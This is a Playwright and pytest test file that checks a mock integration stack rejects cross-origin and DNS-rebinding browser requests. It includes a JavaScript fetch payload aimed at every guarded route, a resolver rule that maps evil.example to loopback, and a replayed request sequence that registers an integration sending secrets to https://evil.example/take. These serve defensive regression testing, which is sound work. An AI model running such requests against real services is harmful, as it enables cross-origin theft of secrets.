"""A real browser on a page that is not ours: it reaches no address by which the lab is steered, and reads nothing.

Two ways. A page of another origin of this machine (127.0.0.2) sends all that a page may send. And a page under a name
that leads to loopback (DNS rebinding; the browser's resolver rules play the name server) is of the mock's own origin.
"""

from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, Page, Playwright

from attachment_lab.clients.stack_clients import StackClients
from attachment_lab.console.app import build_app
from attachment_lab.stack.running import StackOptions, open_stack
from attachment_lab.tenant.credentials import default_tenant
from attachment_lab.testing.lab import Lab
from c4c_mock.app import create_app as c4c_app
from cmi_mock.app import create_app as cmi_app
from mock_kit.app import WrappedApp
from mock_kit.testing import route_addresses
from orchestration_mock.app import create_app as orchestration_app

pytestmark = [pytest.mark.stack, pytest.mark.browser, pytest.mark.timeout(300)]

MOCKS: dict[str, Callable[[Path], WrappedApp[Any]]] = {
    "orchestration": orchestration_app,
    "cmi": cmi_app,
    "c4c": c4c_app,
}
VENDOR_FACES: dict[str, set[str]] = {
    "orchestration": {"oauth", "own_issuer", "workflows"},
    "cmi": {"wire"},
    "c4c": {"odata"},
    "console": set(),
}
REBOUND = "evil.example"
RESOLVER = f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2"
REFUSED = {403, 415, 421}
#: All that a page may send of its own accord, and what it must ask for first. Gives the answers that it may read.
ATTACK = """async ({base, calls}) => {
  const read = [];
  for (const {method, path} of calls) {
    const url = base + path;
    const bodies = ["GET", "HEAD"].includes(method) ? [undefined] : [undefined, "{}", new Blob(["{}"])];
    const ways = ["GET", "POST"].includes(method) ? bodies.map((body) => ({ mode: "no-cors", method, body })) : [];
    ways.push({ method });
    if (method !== "GET") ways.push({ method, body: "{}", headers: { "Content-Type": "application/json" } });
    for (const way of ways) {
      try {
        const answer = await fetch(url, way);
        read.push({ method, path, status: answer.status, text: await answer.text() });
      } catch { /* asked first, and was not allowed; or may not be read */ }
    }
  }
  return read;
}"""


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    """A stack of this module's own, with its console and its first tenant."""
    with open_stack(StackOptions(console=True)) as opened:
        yield Lab(opened)


@pytest.fixture(scope="module")
def urls(lab: Lab) -> dict[str, str]:
    """Its addresses."""
    return dict(lab.urls)


@pytest.fixture(scope="module")
def tenant_path(urls: dict[str, str]) -> str:
    """The Contact Pro tenant of its first tenant."""
    (view,) = httpx.get(f"{urls['orchestration']}/_mock/tenants", trust_env=False).json()["tenants"]
    return str(view["tenant_path"])


@pytest.fixture(scope="module")
def calls(tmp_path_factory: pytest.TempPathFactory, tenant_path: str) -> dict[str, list[dict[str, str]]]:
    """Every guarded address by process, read from the applications' own URL maps."""
    nowhere = dict.fromkeys(("console", *MOCKS, "service"), "http://127.0.0.1:1")
    apps = {name: make(tmp_path_factory.mktemp(name)).flask_app for name, make in MOCKS.items()}
    apps["console"] = build_app(StackClients(nowhere), default_tenant(), nowhere)
    return {
        name: [
            {"method": each.method, "path": each.path}
            for each in route_addresses(app, tenant_path=tenant_path, tenant="acme")
            if each.blueprint not in VENDOR_FACES[name]
        ]
        for name, app in apps.items()
    }


@pytest.fixture(scope="module")
def strange_browser(playwright: Playwright) -> Iterator[Browser]:
    """A browser whose name server leads a foreign name to loopback."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    with playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox", RESOLVER]) as browser:
        yield browser


@pytest.fixture
def strange_page(strange_browser: Browser) -> Iterator[Page]:
    """A page with nothing of ours about it."""
    page = strange_browser.new_page()
    yield page
    page.close()


@contextmanager
def foreign_origin(folder: Path) -> Iterator[str]:
    """A web server at another address of this machine with one empty page."""
    (folder / "index.html").write_text("<!doctype html><title>foreign</title>", encoding="utf-8")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args, directory=str(folder))

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.2", 0), Quiet) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.2:{server.server_address[1]}/"
        server.shutdown()


def state_of(urls: dict[str, str]) -> dict[str, Any]:
    """What the attacks would change."""
    found: dict[str, Any] = {}
    of = {"tenant": default_tenant().name}
    for mock in MOCKS:
        for what in ("tenants", "faults", "dialect", "clock"):
            found[f"{mock} {what}"] = httpx.get(f"{urls[mock]}/_mock/{what}", params=of, trust_env=False).json()
        found[f"{mock} clock"].pop("now")
    for what in ("events", "event-driven-integrations", "secrets"):
        found[what] = httpx.get(f"{urls['orchestration']}/_mock/{what}", params=of, trust_env=False).json()
    return found


@pytest.mark.parametrize("process", [*MOCKS, "console"])
def test_a_page_of_a_foreign_origin_is_refused_at_every_address(
    process: str, strange_page: Page, urls: dict[str, str], calls: dict[str, list[dict[str, str]]], tmp_path: Path
) -> None:
    before = state_of(urls)
    answered: list[tuple[str, str, int]] = []
    strange_page.on(
        "response", lambda answer: answered.append((answer.request.method, urlsplit(answer.url).path, answer.status))
    )
    with foreign_origin(tmp_path) as origin:
        strange_page.goto(origin)
        answered.clear()
        read = strange_page.evaluate(ATTACK, {"base": urls[process], "calls": calls[process]})
    assert [each for each in read if each["text"]] == []
    passed = [each for each in answered if each[2] not in REFUSED]
    assert passed == []
    simple = {(each["method"], each["path"]) for each in calls[process] if each["method"] in {"GET", "POST"}}
    assert {(method, path) for method, path, _ in answered} >= simple
    assert state_of(urls) == before


@pytest.mark.parametrize("process", [*MOCKS, "console"])
def test_a_rebound_name_reads_nothing_at_every_address(
    process: str, strange_page: Page, urls: dict[str, str], calls: dict[str, list[dict[str, str]]]
) -> None:
    before = state_of(urls)
    base = f"http://{REBOUND}:{urlsplit(urls[process]).port}"
    first = strange_page.goto(f"{base}/")
    assert first is not None  # the page is of the process's own origin now, refused as it was
    read = strange_page.evaluate(ATTACK, {"base": base, "calls": calls[process]})
    assert [each for each in read if each["status"] not in {*REFUSED, 0}] == []
    asked = {(each["method"], each["path"]) for each in calls[process]}
    assert {(each["method"], each["path"]) for each in read if each["status"]} == asked
    assert all("Web pages must not" in each["text"] for each in read if each["status"])
    assert state_of(urls) == before


def test_the_three_requests_that_took_the_secrets_abroad_change_nothing(
    strange_page: Page, urls: dict[str, str], tenant_path: str, tmp_path: Path
) -> None:
    mock = urls["orchestration"]
    base = f"{mock}/{tenant_path}/system-configurator/api"
    before = state_of(urls)
    three = [
        (f"{mock}/_mock/dialect", '{"allow_real_network": true}'),
        (f"{base}/event-driven-integrations", '{"name": "x", "endpoint_url": "https://evil.example/take"}'),
        (f"{mock}/_mock/events", '{"event": "Ended", "contact": {"channel_type": "chat", "direction": "inbound"}}'),
    ]
    statuses: list[int] = []
    strange_page.on("response", lambda answer: statuses.append(answer.status))
    with foreign_origin(tmp_path) as origin:
        strange_page.goto(origin)
        statuses.clear()
        for url, body in three:
            strange_page.evaluate(
                "([url, body]) => fetch(url, {method: 'POST', mode: 'no-cors', body}).then(() => 0)", [url, body]
            )
    assert statuses == [403, 403, 403]
    assert state_of(urls) == before
